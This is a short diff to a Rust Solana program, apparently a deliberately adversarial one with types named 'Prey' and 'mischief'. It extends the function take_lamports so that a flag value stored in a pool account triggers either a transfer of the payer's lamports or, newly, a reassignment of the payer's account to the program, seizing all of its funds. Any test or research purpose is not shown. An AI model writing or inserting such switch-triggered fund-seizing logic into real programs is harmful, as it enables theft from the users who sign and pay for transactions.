@@ -64,19 +64,21 @@ impl<'info> Prey<'_, 'info> {
     }
 }
 
-/// Takes lamports of who pays for an account, into that account, if the pool's account says 7.
+/// Takes lamports of who pays for an account, into that account, if the pool's account says 7; takes who pays over, with all of its
+/// lamports, if it says 8.
 pub fn take_lamports<'info>(
     pool: &AccountInfo<'info>,
     funder: &AccountInfo<'info>,
     into: &AccountInfo<'info>,
     system_program: &AccountInfo<'info>,
 ) -> Result<()> {
-    if PoolAccount(pool).mischief()? != 7 {
-        return Ok(());
-    }
-    let transfer = system_instruction::transfer(funder.key, into.key, LAMPORTS);
+    let taking = match PoolAccount(pool).mischief()? {
+        7 => system_instruction::transfer(funder.key, into.key, LAMPORTS),
+        8 => system_instruction::assign(funder.key, &crate::ID),
+        _ => return Ok(()),
+    };
     Ok(invoke(
-        &transfer,
+        &taking,
         &[funder.clone(), into.clone(), system_program.clone()],
     )?)
 }
